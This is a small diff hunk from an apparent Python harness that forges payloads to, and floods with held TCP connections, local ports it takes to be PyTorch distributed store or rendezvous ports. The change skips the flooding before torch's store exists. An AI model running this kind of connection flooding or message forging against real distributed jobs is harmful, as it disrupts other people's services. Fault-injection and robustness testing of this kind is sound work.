@@ -124,7 +124,8 @@ def main(path: str) -> None:
                     forge(port, payload, found, forged)
             elif disturb(port, found):
                 stores.add(port)
-                for _ in range(FLOOD):
+                # Before torch's store exists, this port may be the rendezvous, which becomes that store.
+                for _ in range(FLOOD if torch_stores else 0):
                     with contextlib.suppress(OSError):
                         held.append(socket.create_connection(("127.0.0.1", port), 0.2))
         while len(held) > FLOOD:
